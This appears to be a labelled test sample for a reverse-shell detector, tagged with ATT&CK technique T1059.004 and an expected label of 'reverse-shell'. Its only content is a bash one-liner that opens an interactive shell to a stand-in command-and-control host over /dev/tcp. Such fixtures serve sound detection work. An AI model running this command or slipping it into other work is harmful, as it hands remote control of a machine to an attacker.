# expect: reverse-shell | source: T1059.004
bash -i >& /dev/tcp/c2.example.invalid/443 0>&1
